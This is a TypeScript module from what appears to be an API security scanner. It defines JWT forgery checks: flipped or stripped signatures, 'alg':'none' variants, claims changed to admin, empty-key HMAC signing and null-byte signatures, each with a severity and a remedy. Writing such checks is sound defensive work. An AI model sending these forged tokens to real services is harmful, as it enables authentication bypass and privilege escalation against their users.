import {
  type AttackOutcome,
  type OperationAttack,
  type OperationContext,
  skipped,
  tryVariants,
  type Variant,
} from '../attack.ts';
import { type Credential, withToken } from '../credentials.ts';
import { encodePart, type Jwt, refreshed, signHmac } from '../jwt/token.ts';
import { remedies } from '../remedies.ts';

interface Forgery {
  readonly what: string;
  readonly token: string;
  readonly recipe: string;
}

/** Tries tokens in the place of the valid one. */
export function tryTokens(context: OperationContext, forgeries: Iterable<Forgery>): Promise<AttackOutcome> {
  const variants: Variant[] = [];
  for (const { what, token, recipe } of forgeries) {
    variants.push({ what, recipe, request: context.with(withToken(context.credential as Credential, token)) });
  }
  return tryVariants(context, variants);
}

/** An attack that needs a JWT, made of a list of tokens. */
export function jwtAttack(
  info: Omit<OperationAttack, 'level' | 'run'>,
  forge: (
    jwt: Jwt,
    context: OperationContext,
  ) => Iterable<Forgery> | AttackOutcome | Promise<Iterable<Forgery> | AttackOutcome>,
  { isImplied = false } = {},
): OperationAttack {
  return {
    ...info,
    level: 'operation',
    async run(context) {
      const { jwt, verdicts } = context;
      if (jwt === undefined) return skipped('The credential is no JWT.');
      if (isImplied && verdicts.get('sig-bitflip') === 'vulnerable') {
        return skipped(
          'The signature is not checked at all (sig-bitflip), so what it is made with shows nothing more.',
        );
      }
      const forged = await forge(jwt, context);
      return 'verdict' in forged ? forged : tryTokens(context, forged);
    },
  };
}

const remedy = remedies['jwt-decode-trusted'];

export const signatureBitflip = jwtAttack(
  {
    id: 'sig-bitflip',
    number: 'D06',
    title: 'The signature of a JWT is not checked',
    cwe: [347],
    severity: 'critical',
    why: 'Anybody can write a token of their own, with any user and any role in it.',
    remedy,
  },
  (jwt) => {
    if (jwt.signature === '') return skipped('The token has no signature.');
    const bytes = Buffer.from(jwt.signature, 'base64url');
    // A byte in the middle: the last character of base64url has bits that mean nothing.
    const middle = bytes.length >> 1;
    bytes[middle] = (bytes[middle] ?? 0) ^ 1;
    return [
      {
        what: 'a token of which one bit of the signature was changed',
        token: `${jwt.signed}.${bytes.toString('base64url')}`,
        recipe: 'The valid token, one bit in the middle of its signature flipped.',
      },
    ];
  },
);

export const signatureStripped = jwtAttack(
  {
    id: 'sig-stripped',
    number: 'D07',
    title: 'A JWT is accepted without its signature',
    cwe: [347],
    severity: 'critical',
    why: 'Anybody can write a token of their own and leave the signature out.',
    remedy,
  },
  (jwt) => [
    {
      what: 'a token whose signature was taken off',
      token: `${jwt.signed}.`,
      recipe: 'The valid token without what stands after the second dot.',
    },
  ],
);

export const twoSegments = jwtAttack(
  {
    id: 'two-segments',
    number: 'D08',
    title: 'A JWT of two parts is accepted',
    cwe: [347],
    severity: 'critical',
    why: 'Anybody can write a token of their own and leave the signature out.',
    remedy,
  },
  (jwt) => [
    {
      what: 'a token that has no third part',
      token: jwt.signed,
      recipe: 'The valid token up to its second dot, without the dot.',
    },
  ],
);

const nones = ['none', 'None', 'NONE', 'nOnE'];

export const algNone = jwtAttack(
  {
    id: 'alg-none',
    number: 'D09',
    title: 'A JWT with the algorithm "none" is accepted',
    cwe: [347],
    severity: 'critical',
    why: 'The token itself says that it needs no signature, and is believed: anybody can write one.',
    remedy: remedies['jwt-alg-none-allowed'],
  },
  (jwt) =>
    nones.flatMap((alg) =>
      ['.', ''].map((end) => ({
        what: `a token whose algorithm is ${JSON.stringify(alg)}`,
        token: `${encodePart({ ...jwt.header, alg })}.${encodePart(refreshed(jwt.claims))}${end}`,
        recipe: `The valid token's claims under a header with "alg":"${alg}", and no signature.`,
      })),
    ),
);

export const algNoneKeepSignature = jwtAttack(
  {
    id: 'alg-none-keep-sig',
    number: 'D10',
    title: 'A JWT with the algorithm "none" and some signature is accepted',
    cwe: [347],
    severity: 'critical',
    why: 'A check that there is a signature does not help when the token says that it is not to be verified.',
    remedy: remedies['jwt-alg-none-allowed'],
  },
  (jwt) =>
    nones.map((alg) => ({
      what: `a token whose algorithm is ${JSON.stringify(alg)}, with the old signature`,
      token: `${encodePart({ ...jwt.header, alg })}.${encodePart(jwt.claims)}.${jwt.signature}`,
      recipe: `The valid token with "alg":"${alg}" in its header, its old signature kept.`,
    })),
);

/** Its claims are another's, so the reply need not be like the valid one's: its class is enough, and another identity is proof. */
export const claimTamper = jwtAttack(
  {
    id: 'claim-tamper-keep-sig',
    number: 'D11',
    title: 'Claims of a JWT can be changed',
    cwe: [347],
    severity: 'critical',
    why: "Anybody can make the token another user's, or an administrator's.",
    remedy,
  },
  (jwt) => {
    const forged = { ...jwt.claims, role: 'admin', admin: true, jti: 'countersign-probe' };
    return [
      {
        what: 'a token with changed claims under the old signature',
        token: `${encodePart(jwt.header)}.${encodePart(forged)}.${jwt.signature}`,
        recipe: 'The valid token with "role":"admin" among its claims, its old signature kept.',
      },
    ];
  },
);

export const blankHmac = jwtAttack(
  {
    id: 'blank-hmac',
    number: 'D12',
    title: 'A JWT that is signed with an empty key is accepted',
    cwe: [347],
    severity: 'critical',
    why: 'The key is empty or was not set, so anybody can sign.',
    remedy: 'Fail at start when the key is not set.',
  },
  (jwt) =>
    ['HS256', 'HS384', 'HS512'].map((alg) => ({
      what: `a token signed by ${alg} with an empty key`,
      token: signHmac({ ...jwt.header, alg }, refreshed(jwt.claims), ''),
      recipe: `The valid token's claims, signed by ${alg} with a key of no bytes.`,
    })),
  { isImplied: true },
);

export const nullByteSignature = jwtAttack(
  {
    id: 'nullbyte-sig',
    number: 'D13',
    title: 'A signature that begins with a null byte is accepted',
    cwe: [347],
    severity: 'high',
    why: 'A comparison that stops at a null byte takes it for the end: any claims pass.',
    remedy,
  },
  (jwt) => {
    const claims = encodePart({ ...jwt.claims, jti: 'countersign-probe' });
    const signed = `${encodePart(jwt.header)}.${claims}`;
    return ['AAAA', '%00', `AA${jwt.signature}`, `%00${jwt.signature}`].map((signature) => ({
      what: 'a token whose signature begins with a null byte',
      token: `${signed}.${signature}`,
      recipe: `The valid token's claims changed, under a signature of ${JSON.stringify(signature.slice(0, 4))} and so on.`,
    }));
  },
  { isImplied: true },
);
